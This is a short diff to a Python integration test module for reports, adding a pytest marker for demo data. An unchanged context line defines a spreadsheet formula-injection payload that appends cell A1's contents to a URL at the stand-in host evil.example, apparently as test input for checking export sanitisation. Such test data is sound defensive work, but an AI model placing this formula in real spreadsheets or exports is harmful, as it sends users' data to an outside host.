@@ -40,6 +40,8 @@ from tests.integration.test_reports import (
 )
 from tests.integration.test_reports import nid as report_nid
 
+pytestmark = pytest.mark.demo_data  # on the demo's reference data, loaded once
+
 __all__ = ["fund", "fund_client", "recorder_client", "story"]  # fixtures used here
 
 FORMULA = '=HYPERLINK("http://evil.example/?"&A1,"click")'
